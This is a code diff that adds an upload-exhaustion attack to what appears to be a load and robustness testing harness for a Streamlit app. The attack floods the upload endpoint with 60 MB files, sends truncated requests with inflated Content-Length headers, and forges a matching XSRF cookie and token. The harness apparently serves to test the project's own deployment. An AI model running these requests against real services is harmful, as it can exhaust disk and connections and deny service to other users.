@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import http.client
 import random
 from collections.abc import Awaitable, Callable
 from contextlib import suppress
@@ -12,6 +13,7 @@ from gdr_tools.bench.load.visitor import Visitor, VisitorError
 
 MEGABYTE: Final = 1_000_000
 SESSIONS: Final = 1000
+_FILE: Final = 60 * MEGABYTE
 _AT_ONCE: Final = 300
 _COMING_BACK: Final = 60  # tries, a second apart, of who was turned away
 
@@ -69,11 +71,64 @@ async def open_and_leave(address: str, sessions: int = SESSIONS) -> str:
     return f"{sessions} sessions opened and left, {let_in} of them let in"
 
 
+async def upload_without_end(address: str, most: int = 40) -> str:
+    """One session that uploads file after file until it is refused, and files that break off."""
+    content = bytes(_FILE)
+    async with Visitor(address) as visitor:
+        await visitor.open("Your_data")
+        for number in range(most):
+            status = await asyncio.to_thread(_put, address, visitor.session, number, content)
+            if status != 204:
+                break
+        taken = number * _FILE // MEGABYTE
+        for each in range(20):
+            await asyncio.to_thread(_put, address, visitor.session, most + each, content[:9], _FILE)
+        freed = await asyncio.to_thread(_put, address, visitor.session, 0, b"", delete=True)
+        again = await asyncio.to_thread(_put, address, visitor.session, 0, content)
+    return f"{taken} MB uploaded, then {status}; after a deletion ({freed}) the next: {again}"
+
+
+def _put(
+    address: str,
+    session: str,
+    number: int,
+    content: bytes,
+    announced: int = 0,
+    delete: bool = False,
+) -> int:
+    """Upload or delete one file; the status of the answer, 0 where the upload breaks off or the
+    server ends the connection before all of it was sent.
+
+    announced   bytes that the request says will come, if not as many as there are
+    """
+    host, _, port = address.partition("//")[2].partition(":")
+    token = f"2|00000000|{'ab' * 16}|1700000000"  # one that whoever sends it has made up
+    edge = "gdr-hostile-edge"
+    head = f'--{edge}\r\nContent-Disposition: form-data; name="f"; filename="f.csv"\r\n\r\n'
+    body = b"" if delete else head.encode() + content + f"\r\n--{edge}--\r\n".encode()
+    connection = http.client.HTTPConnection(host, int(port or 80), timeout=60)
+    fields = {
+        "Content-Type": f"multipart/form-data; boundary={edge}",
+        "Content-Length": str(announced or len(body)),
+        "Cookie": f"_streamlit_xsrf={token}",
+        "X-Xsrftoken": token,
+    }
+    path = f"/_stcore/upload_file/{session}/hostile-{number}"
+    try:
+        connection.request("DELETE" if delete else "PUT", path, body, fields)
+        return 0 if announced else connection.getresponse().status
+    except OSError:
+        return 0
+    finally:
+        connection.close()
+
+
 ATTACKS: Final[tuple[Callable[[str], Awaitable[str]], ...]] = (
     clear_caches,
     fill_frames,
     send_nonsense,
     forge,
+    upload_without_end,
     open_and_leave,
 )
 
